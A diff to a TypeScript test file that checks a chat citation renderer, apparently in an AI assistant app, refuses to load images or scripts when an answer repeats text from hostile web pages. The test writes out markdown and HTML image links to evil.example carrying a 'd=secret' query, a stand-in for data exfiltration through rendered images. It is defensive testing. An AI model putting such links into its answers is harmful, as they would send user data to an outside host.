@@ -1,5 +1,6 @@
 import { renderToStaticMarkup } from "react-dom/server";
 import { afterEach, describe, expect, it, vi } from "vitest";
+import { hostilePages } from "../../../test/hostile-pages/pages.ts";
 import type { KnownSource } from "../client/conversation.ts";
 import { SourceList } from "./cited.tsx";
 import { readLink } from "./link.ts";
@@ -137,5 +138,14 @@ describe("a citation", () => {
       "|2 sources|[1]|Ships| |tea.example|not read|[3]|Tea &quot;1610&quot; &lt;b&gt;| |tea.example|",
     );
     expect(list("Nothing cited, `[3]`.")).toBe("");
+  });
+});
+
+describe("an answer that repeats a hostile page", () => {
+  it.each(hostilePages.map(({ name, body }) => [name, body]))("loads nothing: %s", (_name, body) => {
+    const text = `${body}\n\n![chart](https://evil.example/p.png?d=secret) <img src="https://evil.example/q.png">`;
+    const drawn = draw(text, false, { 3: { ...tea, title: body.slice(0, 300) } });
+    expect(drawn).not.toMatch(/<(?:img|iframe|script|style|link|object|embed|video|audio|source)\b/i);
+    expect(drawn.replaceAll(/&[^;]+;/g, "")).not.toMatch(/<[^>]*\s(?:src|srcset|poster|style|background)=/i);
   });
 });
